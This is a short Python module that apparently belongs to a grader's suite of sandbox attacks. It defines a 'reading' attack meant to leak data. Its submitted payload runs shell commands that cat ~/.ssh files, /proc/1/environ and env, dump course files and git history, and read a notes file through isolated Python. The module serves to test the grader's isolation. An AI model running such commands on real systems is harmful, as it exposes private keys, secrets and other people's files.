"""It asks programs of the system to read: a shell, find, cat, git, Python without its hooks."""

from __future__ import annotations

from grader.attacks.attack import Attack, Want
from grader.attacks.moves import answer

ATTACK = Attack(
    kind="reading",
    wants=Want.LEAK,
    make=answer(
        """
import subprocess
import sys

for line in (f"cat {HOME}/*.txt {HOME}/.ssh/*", f"find {COURSE} -type f -exec cat {{}} +", f"git -C {COURSE} log -p",
             f"tar c {COURSE} {HOME}", "cat /proc/1/environ", "env"):
    tell(subprocess.run(["sh", "-c", line], capture_output=True).stdout)
tell(subprocess.run([sys.executable, "-I", "-c", f"print(open({HOME + '/notes.txt'!r}).read())"], capture_output=True).stdout)
"""
    ),
)
